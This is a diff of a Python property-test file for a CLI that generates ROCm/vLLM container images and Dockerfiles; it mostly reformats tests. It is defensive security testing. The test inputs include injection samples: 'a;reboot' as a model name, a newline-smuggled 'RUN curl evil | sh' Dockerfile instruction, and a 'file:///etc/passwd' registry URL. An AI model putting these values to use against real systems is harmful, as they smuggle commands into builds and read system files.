@@ -24,7 +24,10 @@ NODE = ["--gfx", "gfx942", "--gpus", "2", "--driver", "30.30.3"]
 
 
 @HOSTILE
-@given(flag=st.sampled_from(["--python", "--driver", "--os", "--rocm", "--gfx", "--gpus", "--vllm"]), value=flag_value)
+@given(
+    flag=st.sampled_from(["--python", "--driver", "--os", "--rocm", "--gfx", "--gpus", "--vllm"]),
+    value=flag_value,
+)
 @example(flag="--python", value="3.٣")
 @example(flag="--python", value="3.1²")
 @example(flag="--gpus", value="9" * 5000)
@@ -40,7 +43,13 @@ def test_node_flags(flag: str, value: str) -> None:
 
 @pytest.mark.parametrize(
     ("flag", "value"),
-    [("--python", "3.٣"), ("--python", "3.1²"), ("--python", "３.12"), ("--driver", "3٠.30.3"), ("--os", "ubuntu-٢٢.04")],
+    [
+        ("--python", "3.٣"),
+        ("--python", "3.1²"),
+        ("--python", "３.12"),
+        ("--driver", "3٠.30.3"),
+        ("--os", "ubuntu-٢٢.04"),
+    ],
 )
 def test_non_ascii_digits_are_refused(flag: str, value: str) -> None:
     o = cli(["check", "--gfx", "gfx942", flag, value, "--quiet"])
@@ -63,15 +72,21 @@ def _assert_quoted(command: str, args: list[str]) -> None:
 
 @HOSTILE
 @given(
-    model=st.one_of(tricky_text, st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._/-]{0,20}", fullmatch=True)),
-    hf_cache=st.one_of(tricky_text, st.sampled_from(["~/hf", "/data/hf", "~root/hf", "~nosuchuser_x/hf", "~"])),
+    model=st.one_of(
+        tricky_text, st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._/-]{0,20}", fullmatch=True)
+    ),
+    hf_cache=st.one_of(
+        tricky_text, st.sampled_from(["~/hf", "/data/hf", "~root/hf", "~nosuchuser_x/hf", "~"])
+    ),
     devices=st.one_of(st.none(), tricky_text, st.just("0,1")),
     fmt=st.sampled_from(["docker", "podman", "compose"]),
 )
 @example(model="Qwen/Qwen3-8B\n", hf_cache="~/hf", devices=None, fmt="docker")
 @example(model="a;reboot", hf_cache="/x", devices=None, fmt="docker")
 @example(model="Qwen/Qwen3-8B", hf_cache="/x\n", devices=None, fmt="docker")
-def test_image_run_command_is_quoted(model: str, hf_cache: str, devices: str | None, fmt: str) -> None:
+def test_image_run_command_is_quoted(
+    model: str, hf_cache: str, devices: str | None, fmt: str
+) -> None:
     argv = ["image", *NODE, "--model", model, "--hf-cache", hf_cache, "--format", fmt, "--json"]
     if devices is not None:
         argv += ["--devices", devices]
@@ -98,15 +113,20 @@ def test_hf_cache_tilde_user_is_expanded() -> None:
 @HOSTILE
 @given(
     flag=st.sampled_from(["--vllm-ref", "--vllm-repo", "--tag"]),
-    value=st.one_of(tricky_text, st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._/-]{0,15}\n", fullmatch=True)),
+    value=st.one_of(
+        tricky_text, st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._/-]{0,15}\n", fullmatch=True)
+    ),
 )
 @example(flag="--vllm-ref", value="main\n")
 @example(flag="--vllm-repo", value="vllm-project/vllm\n")
 @example(flag="--tag", value="vllm-rocm:dev\n")
 @example(flag="--vllm-ref", value="main\nRUN curl evil | sh")
 def test_dockerfile_flags(flag: str, value: str) -> None:
-    o = cli(["dockerfile", *NODE, "--vllm", "0.10.0", flag, value, "--dry-run", "--build"] if flag == "--tag"
-            else ["dockerfile", *NODE, "--vllm", "0.10.0", flag, value])
+    o = cli(
+        ["dockerfile", *NODE, "--vllm", "0.10.0", flag, value, "--dry-run", "--build"]
+        if flag == "--tag"
+        else ["dockerfile", *NODE, "--vllm", "0.10.0", flag, value]
+    )
     assert_clean(o)
     if "\n" in value or "\r" in value:
         assert o.code == 2, str(o)
@@ -114,7 +134,20 @@ def test_dockerfile_flags(flag: str, value: str) -> None:
         _assert_dockerfile_shape(o.out)
 
 
-INSTRUCTIONS = ("FROM", "ARG", "ENV", "RUN", "COPY", "WORKDIR", "LABEL", "USER", "SHELL", "ENTRYPOINT", "CMD", "EXPOSE")
+INSTRUCTIONS = (
+    "FROM",
+    "ARG",
+    "ENV",
+    "RUN",
+    "COPY",
+    "WORKDIR",
+    "LABEL",
+    "USER",
+    "SHELL",
+    "ENTRYPOINT",
+    "CMD",
+    "EXPOSE",
+)
 
 
 def _assert_dockerfile_shape(text: str) -> None:
@@ -125,10 +158,24 @@ def _assert_dockerfile_shape(text: str) -> None:
 
 
 @HOSTILE
-@given(url=st.one_of(tricky_text, st.sampled_from([
-    "http://[::1]:5000", "http://[::1]:1", "http://[::1", "http://[zz]:1", "file:///etc/passwd",
-    "http://127.0.0.1:99999", "http://" + "a" * 300, "https://host/v2/\n", "http://127.0.0.1:1",
-])))
+@given(
+    url=st.one_of(
+        tricky_text,
+        st.sampled_from(
+            [
+                "http://[::1]:5000",
+                "http://[::1]:1",
+                "http://[::1",
+                "http://[zz]:1",
+                "file:///etc/passwd",
+                "http://127.0.0.1:99999",
+                "http://" + "a" * 300,
+                "https://host/v2/\n",
+                "http://127.0.0.1:1",
+            ]
+        ),
+    )
+)
 def test_registry_flag(url: str) -> None:
     o = cli(["image", *NODE, "--registry", url, "--digest"], env={"ROCM_VLLM_HTTP_DEADLINE": "3"})
     assert_clean(o)
